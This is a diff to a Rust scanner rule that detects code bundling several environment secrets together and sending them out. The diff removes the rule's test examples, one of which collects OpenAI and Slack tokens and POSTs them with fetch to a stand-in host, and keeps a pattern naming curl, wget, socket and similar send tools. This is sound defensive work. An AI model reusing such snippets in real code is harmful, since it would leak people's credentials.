@@ -5,9 +5,10 @@ use std::collections::BTreeMap;
 use crate::code::fact::{HostKind, Part, What};
 use crate::code::flow::owner_word;
 use crate::code::secret::{Secret, owner_hosts, stays_at_home};
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::phrase::Phrases;
 use crate::text::unit::{ANYWHERE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "EXFIL_SECRETS_TOGETHER",
@@ -17,28 +18,12 @@ pub(super) const RULE: Rule = Rule {
     why: "Each key goes to its own service. Whoever writes several of them into one text wants to take them along.",
     fix: "read each key where it is used, and nowhere else",
     places: ANYWHERE,
-    anchors: &["environ", "process.env", "getenv", "$env:"],
+    anchors: words!["environ", "process.env", "getenv", "$env:"],
     check: Check::Near(&[&TAKES], check),
-    hits: &[
-        text(
-            "```python\nfound = {\n  'a': os.environ['NPM_TOKEN'],\n  'b': os.environ['GCP_SERVICE_ACCOUNT_KEY'],\n}\npayload = json.dumps(found)\n```",
-        ),
-        text(
-            "```js\nconst all = { a: process.env.OPENAI_API_KEY, b: process.env.SLACK_BOT_TOKEN };\nfetch('https://a.host.test', { method: 'POST', body: JSON.stringify(all) });\n```",
-        ),
-    ],
-    misses: &[
-        text(
-            "```python\nconfig = {'a': os.environ['OPENAI_API_KEY'], 'b': os.environ['ANTHROPIC_API_KEY']}\nclient = OpenAI(api_key=config['a'])\n```",
-        ),
-        text(
-            "```python\nbody = json.dumps({'id': os.environ['TWITTER_API_KEY'], 's': os.environ['TWITTER_API_SECRET']})\n```",
-        ),
-    ],
 };
 
 /// What is in every text that puts something together or sends it.
-static TAKES: Phrases = Phrases::new(&[
+static TAKES: Phrases = Phrases::new(words![
     r"stringify|dump|serial|encode|post|\bput|upload|send|request|fetch|axios|\bgot\b|urlopen|urllib|http\.|https\.|httpx|aiohttp|ajax|socket|connect|invoke-|\biwr\b|\birm\b|curl|wget|\$\.",
 ]);
 
